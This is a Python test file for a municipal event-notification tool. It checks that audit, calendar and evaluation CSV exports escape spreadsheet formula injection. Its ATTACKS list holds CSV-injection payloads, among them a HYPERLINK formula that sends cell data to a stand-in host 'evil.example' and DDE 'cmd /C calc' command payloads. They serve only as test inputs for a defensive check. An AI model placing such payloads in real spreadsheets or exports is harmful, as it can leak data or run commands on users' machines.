"""No CSV the program writes holds a cell a spreadsheet would run as a formula (issue 12, finding 11)."""

from __future__ import annotations

import csv
import io
from datetime import date

from crisisdesk.cli import main
from crisisdesk.csvfile import csv_bytes, safe_cell
from crisisdesk.domain.documents.term_evaluation import LeadTimeRow, evaluate
from crisisdesk.domain.enums import District, ManifestationKind
from crisisdesk.domain.register.deadlines import NoticeRule
from crisisdesk.reports.documents.term_evaluation_csv import evaluation_csv
from crisisdesk.services.register.notifications import draft_from_record
from test_notifications import draft, local

ATTACKS = ("=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", " =1+1", "\uff1d1+1")


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def dangerous(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")


def test_the_helper_quotes_formulas_and_leaves_numbers_and_text():
    for attack in ATTACKS:
        assert safe_cell(attack) == "'" + attack
    for harmless in ("-5", "+31", "12,5", "Domplein", "", "e-mail: a@b.nl"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(None) == "" and safe_cell(7) == "7"
    assert csv_bytes([["a"], ["=1"]]).startswith(b"\xef\xbb\xbf")  # Excel reads the BOM as UTF-8


def test_audit_csv_has_no_live_formula(service, database, tmp_path):
    record = service.create(draft(purpose=ATTACKS[0], organiser_name=ATTACKS[1], location=ATTACKS[2]))
    service.update(record.id, draft_from_record(record, purpose=ATTACKS[3], organiser_name=ATTACKS[4]), record.version)
    out = tmp_path / "audit.csv"
    assert main(["audit", "--db", database.url, "--out", str(out)]) == 0
    rows = cells(out.read_bytes())
    values = [cell for row in rows[1:] for cell in row]
    assert "'" + ATTACKS[0] in values and "'" + ATTACKS[3] in values and "'" + ATTACKS[4] in values
    assert not any(dangerous(cell) for cell in values)


def test_calendar_csv_has_no_live_formula(service, database, tmp_path):
    service.create(draft(purpose=ATTACKS[0], location=ATTACKS[1], organiser_name=ATTACKS[2],
                         organiser_organisation=ATTACKS[2]))
    out = tmp_path / "kalender.csv"
    assert main(["export", "csv", "--db", database.url, "--from", "2026-03-01", "--to", "2026-03-31",
                 "--out", str(out), "--personal-data"]) == 0
    values = [cell for row in cells(out.read_bytes())[1:] for cell in row]
    assert "'" + ATTACKS[0] in values and "'" + ATTACKS[1] in values
    assert not any(dangerous(cell) for cell in values)


def test_evaluation_csv_has_no_live_formula():
    rows = [LeadTimeRow(1, local(2026, 3, 16, 10), local(2026, 3, 14, 9), ManifestationKind.DEMONSTRATION,
                        District.BINNENSTAD, "x", True)]
    result = evaluate(rows, [NoticeRule(method="plain", hours=48, name="@SUM(A1)")], date(2026, 3, 1), date(2026, 3, 31))
    data = cells(evaluation_csv(result))
    assert not any(dangerous(cell) for row in data for cell in row)
    assert "'@SUM(A1): te laat" in data[0] or any(c.startswith("'@SUM(A1)") for c in data[0])
